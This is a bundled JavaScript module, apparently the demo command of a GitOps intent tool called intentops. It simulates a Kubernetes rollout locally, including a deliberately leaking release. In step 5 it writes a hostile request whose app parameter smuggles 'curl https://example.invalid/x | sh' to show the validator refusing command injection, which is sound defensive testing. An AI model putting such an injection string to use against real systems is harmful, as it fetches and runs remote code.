import { createRequire as __intentopsCreateRequire } from 'node:module'; const require = __intentopsCreateRequire(import.meta.url);
import{learnLocally}from"./chunk-M2HNADWW.js";import{learn,localTrust}from"./chunk-4WPZAA6I.js";import"./chunk-WW22RLVK.js";import"./chunk-PPGTCKSC.js";import"./chunk-LEGCEIQN.js";import{resolveRepoLinks,writeReportSite}from"./chunk-PLMBQAP7.js";import{CHART_SCRIPT,buildReport}from"./chunk-3QGJVPX7.js";import"./chunk-E2BRL4CV.js";import{addLocalNote}from"./chunk-6N2FV3AN.js";import"./chunk-NGRJGM5K.js";import"./chunk-P7TYZJRP.js";import"./chunk-UTRHKLEE.js";import"./chunk-AYSZ4AMZ.js";import"./chunk-GVDP6KUI.js";import"./chunk-5BIDHDKW.js";import{formatPlan,formatResult}from"./chunk-U7YKDQU6.js";import"./chunk-C2WPXYLG.js";import{runRequest}from"./chunk-W23NGMSM.js";import"./chunk-ETYOVXUQ.js";import"./chunk-5OJ2GOST.js";import"./chunk-FVGQQ5UO.js";import"./chunk-3QYLF7G5.js";import"./chunk-KHCPCAMY.js";import"./chunk-YVJOM642.js";import"./chunk-F7RLKL27.js";import{realPorts}from"./chunk-RBVPMJXK.js";import"./chunk-ALE4CT4E.js";import{localOrigin}from"./chunk-NRCTNPHV.js";import"./chunk-R7JP23LT.js";import"./chunk-EP2F4T65.js";import"./chunk-UK4ZALOH.js";import"./chunk-IT5OM6MI.js";import"./chunk-7SUYRXPD.js";import"./chunk-NFZTCRBE.js";import"./chunk-ETCJQDTZ.js";import"./chunk-6ERJT2LN.js";import"./chunk-NBUW6HQO.js";import"./chunk-QFVMHTKY.js";import"./chunk-GLVSOKJS.js";import"./chunk-DBZVRWMN.js";import"./chunk-WZ5YPHZQ.js";import"./chunk-AUHSVQOL.js";import{observerConfigFromEnv}from"./chunk-FEB243X2.js";import"./chunk-YXWYK6VN.js";import{Git}from"./chunk-EPT7IH44.js";import"./chunk-EDGTRVD5.js";import{buildVersion}from"./chunk-5BNXG7ON.js";import"./chunk-LXZWD2NR.js";import"./chunk-OXQTW5ER.js";import"./chunk-EGAWUMG2.js";import"./chunk-F2ZNNMDU.js";import"./chunk-2PSHMBLF.js";import"./chunk-4FP5HX3B.js";import"./chunk-J7QRXHSV.js";import"./chunk-ZHHQ2VM4.js";import"./chunk-FLK6VVG2.js";import"./chunk-FDFVMEK2.js";import{validate}from"./chunk-VVY36NTP.js";import"./chunk-3UULW3QH.js";import{prepareRequest}from"./chunk-IMA4UUNE.js";import"./chunk-SKS2F7RM.js";import"./chunk-25BS4YM3.js";import"./chunk-GK2IRYGI.js";import"./chunk-U4Z6L4TO.js";import"./chunk-FRUOB5TN.js";import"./chunk-QCDSYXWU.js";import"./chunk-4Y2EBLOH.js";import"./chunk-SDQRG7IM.js";import{loadFile,loadRepo}from"./chunk-HSLQIJZV.js";import"./chunk-DCAQJS7W.js";import"./chunk-2P3TWFKB.js";import"./chunk-DWCMFEAG.js";import"./chunk-2MOPAOYY.js";import"./chunk-ALNYEWFL.js";import{formatDiagnostic}from"./chunk-SDSC2EUA.js";import"./chunk-SEW3B7XV.js";import"./chunk-PO5DHDQP.js";import"./chunk-PXOXLSHI.js";import"./chunk-GJTYOO5A.js";import{execFileSync}from"node:child_process";import{mkdtemp,readFile,rm,writeFile as writeFile2}from"node:fs/promises";import{tmpdir}from"node:os";import{join as join2}from"node:path";import{existsSync}from"node:fs";import{cp,mkdir,writeFile}from"node:fs/promises";import{dirname,join}from"node:path";import{fileURLToPath}from"node:url";var SERVER=String.raw`// A tiny HTTP service: /health answers 200; a leaky release grows its memory and dies like an OOM kill.
import { createServer } from 'node:http';
import { writeFileSync, appendFileSync, readFileSync } from 'node:fs';
const [app, tag, stateDir, leakMb, crashAfterMs] = process.argv.slice(2);
const log = (level, msg) => appendFileSync(stateDir + '/' + app + '.log', new Date().toISOString() + ' ' + level + ' ' + msg + '\n');
const hold = [];
// The peak since the release rolled out, like container_memory_max_usage_bytes: survives restarts.
const memFile = stateDir + '/' + app + '.mem';
const mem = () => {
  const now = Math.round(process.memoryUsage().rss / 1048576);
  let peak = 0;
  try { peak = Number(readFileSync(memFile, 'utf8')) || 0; } catch {}
  if (now > peak) writeFileSync(memFile, String(now));
};
const server = createServer((req, res) => {
  if (req.url === '/health') { res.writeHead(200); res.end('ok'); return; }
  res.writeHead(404); res.end();
});
server.listen(0, '127.0.0.1', () => {
  writeFileSync(stateDir + '/' + app + '.port', String(server.address().port));
  log('INFO', app + ' ' + tag + ' listening');
  mem();
});
setInterval(mem, 50).unref();
if (Number(leakMb) > 0) {
  const chunk = () => { const b = Buffer.alloc(8 * 1048576, 1); hold.push(b); mem(); };
  const timer = setInterval(() => { if (hold.length * 8 < Number(leakMb)) chunk(); }, 20);
  setTimeout(() => {
    clearInterval(timer);
    // A loaded machine runs the 20 ms timer late: the leak still reaches its size before the kill.
    while (hold.length * 8 < Number(leakMb)) chunk();
    mem();
    log('ERROR', 'memory limit exceeded: ' + Math.round(process.memoryUsage().rss / 1048576) + ' MiB');
    log('ERROR', 'container killed: OOMKilled');
    process.exit(137);
  }, Number(crashAfterMs) || 400);
}
`,KUBELET=`// Supervises one app like a kubelet: restarts it when it dies, counts restarts, backs off.
import { spawn } from 'node:child_process';
import { readFileSync, writeFileSync, existsSync, mkdirSync } from 'node:fs';
const [cmd, app, tag] = process.argv.slice(2);
const stateDir = '.run';
mkdirSync(stateDir, { recursive: true });
const file = (ext) => stateDir + '/' + app + '.' + ext;
const write = (ext, v) => writeFileSync(file(ext), typeof v === 'string' ? v : JSON.stringify(v));
const read = (ext, d) => (existsSync(file(ext)) ? readFileSync(file(ext), 'utf8') : d);

function stop() {
  const pid = Number(read('supervisor.pid', '0'));
  if (pid) { try { process.kill(-pid, 'SIGKILL'); } catch {} }
  write('supervisor.pid', '0');
}

if (cmd === 'stop') { stop(); process.exit(0); }
if (cmd === 'deploy') {
  stop();
  const releases = JSON.parse(readFileSync('apps/' + app + '/releases.json', 'utf8'));
  if (!releases[tag]) { console.error('no release ' + tag + ' of ' + app + ' in apps/' + app + '/releases.json'); process.exit(1); }
  write('pod', { phase: 'Pending', ready: false, restarts: Number(read('restarts', '0')), tag });
  for (const ext of ['port', 'mem']) write(ext, '');
  const child = spawn(process.execPath, [process.argv[1], 'supervise', app, tag], { detached: true, stdio: 'ignore' });
  write('supervisor.pid', String(child.pid));
  child.unref();
  console.log('deployment.apps/' + app + ' configured (image ' + app + ':' + tag + ')');
  process.exit(0);
}
if (cmd === 'supervise') {
  const release = JSON.parse(readFileSync('apps/' + app + '/releases.json', 'utf8'))[tag];
  let restarts = Number(read('restarts', '0'));
  let crashes = 0;
  const start = () => {
    const p = spawn(process.execPath, ['apps/' + app + '/server.mjs', app, tag, stateDir, String(release.leak_mb ?? 0), String(release.crash_after_ms ?? 0)], { stdio: 'ignore' });
    const last = crashes ? 'OOMKilled' : null;
    write('port', '');
    write('pod', { phase: 'Running', ready: false, restarts, tag, waiting: null, last_terminated: last });
    // Like a readiness probe's initial delay: ready only once the container has stayed up a moment
    // after it started listening (counted from then: a loaded machine may take long to start it).
    // A leaking release is killed before its probe passes, however late a loaded machine runs its
    // timers: it never turns ready.
    let ready;
    const listening = setInterval(() => {
      if (release.leak_mb || !read('port', '')) return;
      clearInterval(listening);
      ready = setTimeout(() => write('pod', { phase: 'Running', ready: true, restarts, tag, waiting: null, last_terminated: last }), 600);
    }, 20);
    p.on('exit', (code) => {
      clearInterval(listening);
      clearTimeout(ready);
      crashes += 1; restarts += 1;
      write('restarts', String(restarts));
      const reason = code === 137 ? 'OOMKilled' : 'Error';
      const waiting = crashes >= 2 ? 'CrashLoopBackOff' : null;
      write('pod', { phase: 'Running', ready: false, restarts, tag, waiting, last_terminated: reason });
      setTimeout(start, waiting ? 800 : 100);
    });
  };
  start();
}
`,KUBECTL=String.raw`// Answers what the outcome checks and captures ask, from the kubelet's state files.
import { readFileSync, existsSync } from 'node:fs';
import { get } from 'node:http';
const [cmd, app] = process.argv.slice(2);
const stateDir = '.run';
const read = (ext, d) => { const f = stateDir + '/' + app + '.' + ext; return existsSync(f) ? readFileSync(f, 'utf8') : d; };
const pod = JSON.parse(read('pod', 'null') || 'null');
switch (cmd) {
  case 'not-ready': {
    // Like the seed's pods_ready check: how many pods are not Running and ready (0 = all good).
    if (!pod) { console.log('1'); break; }
    if (pod.waiting || pod.last_terminated) console.error(app + '-0  0/1  ' + (pod.waiting ?? 'Running') + '  restarts=' + pod.restarts + (pod.last_terminated ? '  lastState.terminated.reason=' + pod.last_terminated : ''));
    console.log(pod.phase === 'Running' && pod.ready ? '0' : '1');
    break;
  }
  case 'health': {
    const port = read('port', '');
    if (!port) { console.log('000'); break; }
    const req = get({ host: '127.0.0.1', port: Number(port), path: '/health', timeout: 1000 }, (res) => { console.log(String(res.statusCode)); res.resume(); });
    req.on('error', () => console.log('000'));
    break;
  }
  case 'memory': {
    // Memory use in percent of a 256 MiB limit, like a container_memory_working_set_bytes ratio.
    const mib = Number(read('mem', ''));
    if (!mib) { console.error('no pod running for ' + app); process.exit(1); }
    console.log(String(Math.round((mib / 256) * 100)));
    break;
  }
  case 'restarts': console.log(read('restarts', '0')); break;
  case 'errors': console.log(String(read('log', '').split('\n').filter((l) => l.includes(' ERROR ')).length)); break;
  case 'logs': process.stdout.write(read('log', '').split('\n').slice(-20).join('\n')); break;
  default: console.error('unknown command ' + cmd); process.exit(2);
}
`;function packageRoot(){let dir=dirname(fileURLToPath(import.meta.url));for(let i=0;i<6;i++){if(existsSync(join(dir,"package.json"))&&existsSync(join(dir,"intents")))return dir;dir=dirname(dir)}throw new Error("cannot find the intentops package root (package.json next to intents/)")}var DEPLOY_APP=`# yaml-language-server: $schema=../../schemas/catalog.schema.json
# The demo's deploy-app: same params as the example, but the "cluster" is a local process that a
# small supervisor (scripts/kubelet.mjs) starts and restarts, answering like kubectl would.
name: deploy-app
description: Roll out a release of an app
risk: medium
params:
  app: { type: string, pattern: "^[a-z0-9]([-a-z0-9]*[a-z0-9])?$", description: app name }
  tag: { type: string, default: latest, pattern: "^[A-Za-z0-9_][A-Za-z0-9._-]{0,127}$" }
steps:
  - name: apply
    run: node scripts/kubelet.mjs deploy {{app}} {{tag}}
    timeout: 30s
expected_duration: 5s
capture:
  metrics:
    memory_usage: { run: "node scripts/kubectl.mjs memory {{app}}", timeout: 5s }
  error_count: { run: [node, scripts/kubectl.mjs, errors, "{{app}}"] }
  pod_restarts: { run: [node, scripts/kubectl.mjs, restarts, "{{app}}"] }
  logs: { run: [node, scripts/kubectl.mjs, logs, "{{app}}"], lines: 20 }
`,DEPLOY_OUTCOMES=`# yaml-language-server: $schema=../../schemas/outcomes.schema.json
outcomes:
  success:
    - condition: "pods_ready"
      check: "node scripts/kubectl.mjs not-ready {{app}}"
      expected: "0"
      timeout: 30s
      interval: 300ms
    - condition: "endpoint_healthy"
      check: "node scripts/kubectl.mjs health {{app}}"
      expected: "200"
      timeout: 5s
      interval: 300ms
  failure_indicators:
    - pattern: "CrashLoopBackOff"
      severity: P1
    - pattern: "ImagePullBackOff"
      severity: P2
    - pattern: "OOMKilled"
      severity: P1
`,RELEASES={"1.4.0":{},"1.5.0":{leak_mb:160,crash_after_ms:350}};async function put(root,rel,text){await mkdir(dirname(join(root,rel)),{recursive:!0}),await writeFile(join(root,rel),text)}function realObservers(env){let lines=[];return(env.PROMETHEUS_URL||env.INTENTOPS_PROMETHEUS_URL)&&lines.push("  prometheus:","    queries:","      targets_up: 'sum(up)'"),env.KUBECONFIG&&lines.push(`  kubernetes: { namespace: ${JSON.stringify(env.INTENTOPS_DEMO_NAMESPACE??"default")}, selector: ${JSON.stringify(env.INTENTOPS_DEMO_SELECTOR??"app")} }`),lines.length?`${lines.join(`
`)}
`:""}async function writeDemoRepo(root,env={}){let examples=join(packageRoot(),"intents");await cp(examples,join(root,"intents"),{recursive:!0,filter:src=>!src.includes(`${join("intents","requests")}/`)}),await cp(join(packageRoot(),"schemas"),join(root,"schemas"),{recursive:!0}),await mkdir(join(root,"intents","requests"),{recursive:!0}),await put(root,"intents/catalog/deploy-app.yaml",DEPLOY_APP+realObservers(env)),await put(root,"intents/outcomes/deploy-app.yaml",DEPLOY_OUTCOMES),await put(root,"apps/home-portal/server.mjs",SERVER),await put(root,"apps/home-portal/releases.json",`${JSON.stringify(RELEASES,null,2)}
`),await put(root,"scripts/kubelet.mjs",KUBELET),await put(root,"scripts/kubectl.mjs",KUBECTL),await put(root,".gitignore",`.run/
site/
`),await put(root,"README.md","# A throw-away GitOps repo made by `intentops demo`\n")}function requestYaml(app,tag,reason){return`# yaml-language-server: $schema=../../schemas/request.schema.json
intent: deploy-app
params:
  app: ${app}
  tag: "${tag}"
reason: "${reason}"
proposed_by: demo-agent
`}var indent=(text,by="    ")=>text.split(`
`).map(l=>by+l).join(`
`);async function runDemo(opts){let t0=Date.now(),say=opts.print,repo=opts.dir??await mkdtemp(join2(tmpdir(),"intentops-demo-")),git=new Git(repo),ports={...realPorts(l=>say(`    ${l}`),observerConfigFromEnv(opts.env??{})),origin:localOrigin(repo,opts.env??{})},now=()=>new Date,failures=0;try{say("intentops demo \u2014 the whole loop on a throw-away GitOps repo (no cluster, no GitHub needed)"),say(`repo: ${repo}`);let real=[opts.env?.PROMETHEUS_URL||opts.env?.INTENTOPS_PROMETHEUS_URL?"Prometheus":"",opts.env?.KUBECONFIG?"Kubernetes":""].filter(Boolean);say(real.length?`observing too (read-only): ${real.join(", ")}
`:`(set PROMETHEUS_URL or KUBECONFIG and the runs observe those too)
`),await writeDemoRepo(repo,opts.env??{}),await git.init(),await git.commitAll("catalog: example intents, outcome specs, anomaly rules, policies");let good="intents/requests/deploy-home-portal-1.4.0.yaml";await writeFile2(join2(repo,good),requestYaml("home-portal","1.4.0","Roll out 1.4.0 with the new login page")),say(`1. Propose   an agent adds ${good}`);let v=await validate(repo,{now:now(),approvals:null,history:[]});say(`2. Validate  ${v.diagnostics.length===0?"\u2714":"\u2716"} ${v.files.length} files under intents/ checked`);for(let d of v.diagnostics)say(`    ${formatDiagnostic(d)}`);let req=(await loadFile(repo,good)).loaded,plan=prepareRequest((await loadRepo(repo)).catalog,req,{now:now(),approvals:null,history:[]}).plan;plan&&say(`3. Plan
${indent(formatPlan(plan,good))}`),await git.commitAll("request: deploy home-portal 1.4.0 (merged)"),say(`
4. Execute, observe, check, detect, record \u2014 the good release`);let first=await runRequest({repoDir:repo,requestPath:good,toolVersion:opts.version,env:{}},ports);say(indent(formatResult(first.record,first.path))),await git.commitAll(`record: ${first.record.id} ${first.record.status}`);let hostile="intents/requests/deploy-sneaky.yaml";await writeFile2(join2(repo,hostile),`intent: deploy-app
params:
  app: "home-portal; curl https://example.invalid/x | sh"
reason: try to inject a command
`),say(`
5. A hostile request is refused before anything runs: ${hostile}`);let refused=await validate(repo,{now:now(),approvals:null,history:[]},[hostile]);for(let d of refused.diagnostics)say(`    ${formatDiagnostic(d)}`);await rm(join2(repo,hostile));let bad="intents/requests/deploy-home-portal-1.5.0.yaml";await writeFile2(join2(repo,bad),requestYaml("home-portal","1.5.0","Roll out 1.5.0 (new image cache)")),await git.commitAll("request: deploy home-portal 1.5.0 (merged)"),say(`
6. The bad release: a memory leak, OOMKilled, CrashLoopBackOff`);let second=await runRequest({repoDir:repo,requestPath:bad,toolVersion:opts.version,env:{}},ports);say(indent(formatResult(second.record,second.path))),second.record.status==="success"&&failures++,await git.commitAll(`record: ${second.record.id} ${second.record.status}`);let restartDraft=second.record.drafts.find(d=>d.path.includes("unexpected_restart")),fixByHand=()=>addLocalNote(repo,{draft:restartDraft?.fingerprint??"",kind:"manual_fix",text:"```\nkubectl rollout undo deployment/home-portal -n home-portal\n```",by:"oncall",now:now()});await fixByHand(),say(`
7. The same anomaly again: the open draft gets an occurrence, not a twin`);let third=await runRequest({repoDir:repo,requestPath:bad,toolVersion:opts.version,env:{}},ports);say(indent(formatResult(third.record,third.path))),await git.commitAll(`record: ${third.record.id} ${third.record.status}`),await fixByHand(),say(`
8. A human rolls it back by hand after each failure, and says so with /manual-fix`),say(`    intentops incident note ${restartDraft?.fingerprint} --fix 'kubectl rollout undo deployment/home-portal -n home-portal'   (after each)`),say("    \u2026and the bad release is deployed once more");let fourth=await runRequest({repoDir:repo,requestPath:bad,toolVersion:opts.version,env:{}},{...ports,log:()=>{}});say(`    ${fourth.record.status}: ${fourth.record.anomalies.map(a=>a.rule).join(", ")}`),await git.commitAll(`record: ${fourth.record.id} ${fourth.record.status}; manual fixes`),say(`
9. Learn \u2014 repeated patterns become suggestions: real file changes, one branch each (a PR on GitHub)`);let learned=await learn(repo,{now:now(),trust:await localTrust(repo)}),{outcomes}=await learnLocally(repo,learned,now());await git.commitAll("learn: ledger and report");for(let o of outcomes){say(`    ${o.suggestion.title}
      ${o.outcome}`);for(let c of o.suggestion.changes)say(`      ${c.before===null?"new file":"changes"} ${c.path}`)}outcomes.length===0&&failures++,say(`
10. What was written`);let draft=third.record.drafts[0];if(draft){let front=(await readFile(join2(repo,draft.path),"utf8")).split(`
---
`)[0]?.split(`
`).filter(l=>/^(title|severity|status|fingerprint|occurrences):/.test(l));say(`    incident draft ${draft.path}:
${indent((front??[]).join(`
`),"      ")}`)}say(`    execution record ${third.path}: status ${third.record.status}, digest ${third.record.digest.slice(0,19)}\u2026, prev_digest ${third.record.prev_digest?.slice(0,19)}\u2026`);let site=join2(repo,"site"),links=await resolveRepoLinks({repoDir:repo,outDir:site,env:{}}),report=await buildReport({repoDir:repo,now:now(),links});return await writeReportSite(site,report.pages,CHART_SCRIPT),say(`
11. Where to look`),say(`    report:           ${site}/index.html (${report.model.attention.length} failed first, ${report.model.incidentList.filter(i=>i.open).length} open incidents, then the history)`),say(`    records:          ${repo}/executions/`),say(`    incident drafts:  ${repo}/incidents/drafts/`),say(`    anomaly log:      ${repo}/incidents/anomaly-log.jsonl`),say(`    suggestions:      git -C ${repo} branch --list 'intentops/learn/*'; learning/ledger.yaml`),say(`    git log:
${indent((await git.log(8)).join(`
`),"      ")}`),say(`
done in ${((Date.now()-t0)/1e3).toFixed(1)} s \u2014 ${opts.clean?"the demo repo is removed":`the demo repo stays for you to read: cd ${repo} (remove it with rm -rf ${repo})`}`),first.record.status!=="success"&&failures++,failures?1:0}finally{try{execFileSync(process.execPath,["scripts/kubelet.mjs","stop","home-portal"],{cwd:repo,stdio:"ignore"})}catch{}opts.clean&&await rm(repo,{recursive:!0,force:!0})}}async function demoCommand(o){let version=await buildVersion();return runDemo({...o,env:process.env,version,print:l=>process.stdout.write(`${l}
`)})}export{demoCommand};
